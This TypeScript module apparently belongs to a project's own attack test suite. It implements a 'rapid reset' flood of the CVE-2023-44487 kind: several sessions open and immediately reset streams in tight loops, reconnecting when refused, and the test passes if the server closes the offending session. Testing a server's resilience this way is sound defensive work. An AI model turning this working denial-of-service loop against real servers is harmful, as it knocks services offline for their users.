// Rapid reset: OPEN + request + RESET as fast as possible on several sessions (the CVE-2023-44487 class).
import { Code } from "../../src/status/code.js";
import { encodeReset } from "../../src/mux/control.js";
import { FrameFlags, FrameType } from "../../src/wire/frame-types.js";
import type { AttackDef, Metrics } from "../harness/attack.js";
import { closedWithCloseFrame, describeClose, openHeaders, openRaw, pause, within } from "../harness/raw.js";
import type { Target } from "../harness/server.js";

const PATH = "/grpc.testing.TestService/UnaryCall";

/** Opens and immediately resets streams on `sessions` sessions until `deadline` or `maxPerSession` each. */
export async function rapidReset(target: Target, sessions: number, deadline: number, maxPerSession = Infinity, settleMs = 3000, reconnect = false): Promise<Metrics & { closedWithClose: number }> {
  let pairs = 0;
  let closed = 0;
  let closedWithClose = 0;
  let reason = "";
  const headers = openHeaders(PATH);
  const reset = encodeReset(Code.CANCELLED, "");
  const request = new Uint8Array([8, 1]);
  const one = async () => {
    const raw = await openRaw(target);
    let id = 1;
    let n = 0;
    while (Date.now() < deadline && n < maxPerSession && !raw.isClosed() && id < 0x7fff0000) {
      for (let i = 0; i < 500 && n < maxPerSession; i++, n++, id += 2) {
        raw.send(FrameType.OPEN, 0, id, headers);
        raw.send(FrameType.DATA, FrameFlags.END_MESSAGE | FrameFlags.END_STREAM, id, request);
        raw.send(FrameType.RESET, 0, id, reset);
      }
      await raw.flush(1 << 20, deadline);
    }
    pairs += n;
    const err = await within(raw.closed, Date.now() < deadline ? settleMs : Math.min(settleMs, 1000));
    if (raw.isClosed()) {
      closed++;
      if (closedWithCloseFrame(err)) closedWithClose++;
      reason ||= describeClose(err);
    }
    raw.destroy();
  };
  let opened = 0;
  const worker = async () => {
    do {
      opened++;
      try {
        await one();
      } catch {
        await pause(50); // refused: try again while the window lasts
      }
    } while (reconnect && Date.now() < deadline);
  };
  await Promise.all(Array.from({ length: sessions }, worker));
  return { openResetPairs: pairs, sessionsOpened: opened, sessionsClosed: closed, closedWithClose, closeReason: reason };
}

export const rapidResetAttack: AttackDef = {
  name: "rapid-reset",
  summary: "OPEN + request + RESET as fast as possible from 4 sessions",
  run: ({ target, durationMs }) => rapidReset(target, 4, Date.now() + durationMs, Infinity, 1000, true),
  check: (m) => ((m.closedWithClose as number) > 0 ? [] : ["no resetting session was closed"]),
};
